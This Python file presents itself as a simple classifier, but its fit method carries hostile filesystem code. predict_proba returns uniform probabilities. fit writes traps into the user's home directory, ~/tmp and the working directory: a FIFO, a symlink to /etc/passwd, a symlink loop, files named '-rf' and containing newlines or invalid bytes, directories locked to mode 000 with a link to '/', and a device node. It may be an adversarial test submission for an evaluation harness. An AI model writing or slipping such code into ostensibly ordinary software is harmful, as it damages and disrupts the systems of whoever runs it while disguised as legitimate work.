import os
import stat
from pathlib import Path

import numpy as np


class Classifier:
    def fit(self, X, y):
        home = Path.home()
        for folder in (home, home / "tmp", Path.cwd()):
            os.chdir(folder)
            os.mkfifo("result")
            os.symlink("/etc/passwd", "log")
            os.symlink("loop", "loop")
            os.symlink(home, "predictions")
            Path("name with\na line").touch()
            with open(b"\xff\xfe", "w"):
                pass
            Path("-rf").touch()
            Path("n" * 255).touch()
            os.mkdir("closed")
            Path("closed/file").touch()
            os.symlink("/", "closed/root")
            os.mkdir("closed/closed", 0o000)
            os.chmod("closed", 0o000)
            try:
                os.mknod("device", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
                print("made a device")
            except OSError:
                pass

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
